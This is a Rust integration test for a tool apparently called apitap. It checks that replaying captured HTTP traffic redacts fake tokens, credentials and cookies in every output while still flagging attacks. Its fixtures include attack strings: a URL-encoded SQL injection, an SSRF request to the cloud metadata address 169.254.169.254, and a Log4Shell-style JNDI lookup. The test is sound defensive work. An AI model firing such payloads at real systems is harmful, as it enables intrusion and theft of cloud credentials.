//! Secrets stay in: a capture full of bearer tokens, Basic credentials, API keys, session
//! cookies and password fields is replayed with headers logged, to stdout and to a file sink,
//! and no output line contains any of those secrets in the clear (nor their base64 forms).

use std::process::Command;

mod common;

use common::{Conv, PcapWriter};

/// A capture of one connection carrying `exchanges` (request, response) in order.
fn write_pcap(p: &std::path::Path, exchanges: &[(String, String)]) {
    let mut w = PcapWriter::create(p);
    let mut c = Conv::open(&mut w, [10, 9, 0, 2], [10, 9, 0, 1], 41000, 80);
    for (q, r) in exchanges {
        c.client(&mut w, q.as_bytes());
        c.server(&mut w, r.as_bytes());
    }
    w.finish();
}

const SECRETS: &[&str] = &[
    "sk_live_BEARERSECRET123456",
    "hunter2PASS",
    "dXNlcjpodW50ZXIyUEFTUw==",
    "COOKIESECRET987",
    "SETCOOKIESECRET555",
    "APIKEYSECRET42",
    "URLPASSWORD77",
    "URLAPIKEY88",
    "BODYPASSWORD99",
    "JWTSIGNATURESECRET",
    "PROXYSECRET31",
    "cHJveHk6UFJPWFlTRUNSRVQzMQ==",
    "QUERYTOKEN5150",
    "USERINFOPASS66",
    "INJECTEDPASS12",
    "HOOKPASS34",
    "XAUTHTOKEN56",
];

fn exchanges() -> Vec<(String, String)> {
    let ok = |body: &str, extra: &str| {
        format!(
            "HTTP/1.1 200 OK\r\n{extra}Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    // {"alg":"HS256"} . {"sub":"alice"} . signature
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.JWTSIGNATURESECRET";
    let body = r#"{"username":"bob","password":"BODYPASSWORD99"}"#;
    vec![
        (
            "GET /api/me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer sk_live_BEARERSECRET123456\r\n\r\n".into(),
            ok("{}", ""),
        ),
        ("GET /api/me HTTP/1.1\r\nHost: api\r\nAuthorization: Basic dXNlcjpodW50ZXIyUEFTUw==\r\n\r\n".into(), ok("{}", "")),
        (
            "GET /api/me HTTP/1.1\r\nHost: api\r\nCookie: theme=dark; sessionid=COOKIESECRET987\r\n\r\n".into(),
            ok("{}", "Set-Cookie: sid=SETCOOKIESECRET555; Path=/; HttpOnly\r\n"),
        ),
        ("GET /api/items HTTP/1.1\r\nHost: api\r\nX-API-Key: APIKEYSECRET42\r\n\r\n".into(), ok("[]", "")),
        (
            "GET /login?user=bob&password=URLPASSWORD77&api_key=URLAPIKEY88&token=QUERYTOKEN5150 HTTP/1.1\r\nHost: api\r\n\r\n"
                .into(),
            ok("{}", ""),
        ),
        (
            format!("POST /api/login HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len()),
            ok("{\"token\":\"x\"}", ""),
        ),
        (format!("GET /api/me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {jwt}\r\n\r\n"), ok("{}", "")),
        (
            "GET http://api/x HTTP/1.1\r\nHost: api\r\nProxy-Authorization: Basic cHJveHk6UFJPWFlTRUNSRVQzMQ==\r\n\r\n".into(),
            ok("{}", ""),
        ),
        ("GET http://carol:USERINFOPASS66@api/x?y=1 HTTP/1.1\r\nHost: api\r\n\r\n".into(), ok("{}", "")),
        // attack payloads inside secrets must not be quoted as alert evidence
        (
            "GET /api/login?user=x&password=%27%20OR%201%3D1--INJECTEDPASS12 HTTP/1.1\r\nHost: api\r\n\r\n".into(),
            ok("{}", ""),
        ),
        (
            "GET /api/hook?webhook=http://admin:HOOKPASS34@169.254.169.254/latest HTTP/1.1\r\nHost: api\r\nX-Auth-Token: ${jndi:ldap://x/XAUTHTOKEN56}\r\n\r\n".into(),
            ok("{}", ""),
        ),
    ]
}

#[test]
fn no_secret_leaves_in_the_clear_in_any_event_or_sink() {
    let dir = tempfile::tempdir().expect("tmp");
    let cap = dir.path().join("secrets.pcap");
    write_pcap(&cap, &exchanges());
    let file_sink = dir.path().join("eve.json");
    let out = Command::new(env!("CARGO_BIN_EXE_apitap"))
        .args([
            "replay",
            cap.to_str().unwrap_or_default(),
            "-q",
            "--log-headers",
            "-o",
            "-",
        ])
        .args(["-o", file_sink.to_str().unwrap_or_default()])
        .output()
        .expect("apitap");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let file = std::fs::read_to_string(&file_sink).expect("file sink");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(
        stdout.lines().filter(|l| l.contains("\"event_type\":\"http\"")).count(),
        11,
        "{stdout}"
    );
    // the payloads were seen (alerts), only their secrets are withheld
    assert!(
        stdout.contains("\"type\":\"injection\"") && stdout.contains("\"type\":\"ssrf\""),
        "{stdout}"
    );
    for (name, text) in [("stdout", &stdout), ("file", &file), ("stderr", &stderr)] {
        for s in SECRETS {
            assert!(!text.contains(s), "{name} leaks {s}");
        }
    }
    // What identifies the caller is still there, without the secret.
    assert!(stdout.contains("\"principal\":\"user\""), "Basic user name");
    assert!(stdout.contains("\"principal\":\"alice\""), "JWT sub");
    assert!(stdout.contains("\"scheme\":\"api_key\"") && stdout.contains("\"scheme\":\"cookie\""));
}
